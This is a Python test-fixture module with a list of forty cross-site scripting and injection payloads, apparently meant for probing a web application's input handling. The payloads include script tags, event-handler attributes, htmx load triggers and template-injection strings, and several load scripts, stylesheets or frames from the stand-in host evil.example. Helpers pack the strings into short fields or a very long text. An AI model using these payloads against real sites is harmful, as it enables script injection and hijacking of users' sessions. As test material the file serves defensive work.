"""Forty texts that attack, each in its own way, and how they are laid into fields."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * {display: none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<div hx-get=/grants/ hx-trigger=load hx-target=body>x</div>",
    "<div hx-on:load=alert(1) data-hx-get=/grants/ data-hx-trigger=load>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "</textarea></title></style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '" onmouseover=alert(1) autofocus onfocus=alert(2) x="',
    "' onmouseover=alert(1) autofocus onfocus=alert(2) x='",
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7|add:42 }}{% load static %}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "\u202egnp.exe\u2066\u2067\u200b\u200f\ufeff",
    "\U0001f469\u200d\U0001f680 " + "Z\u0351\u036b\u0343" * 40,
]
# For a text without a limit: all of them, as one.
ALL = "\n".join(PAYLOADS)
# The longest description that a person would send, and then some.
LONG = (ALL + "\n\n") * (250_000 // len(ALL) + 1)
WIDTH = 140


def packed(width: int = WIDTH) -> list[str]:
    """As few texts as hold them all, none longer than what short fields take."""
    packs = [""]
    for text in sorted(PAYLOADS, key=len):
        both = f"{packs[-1]} {text}".strip(" ")
        if len(both) <= width:
            packs[-1] = both
        else:
            packs.append(text[:width])
    return packs


PACKS = packed()
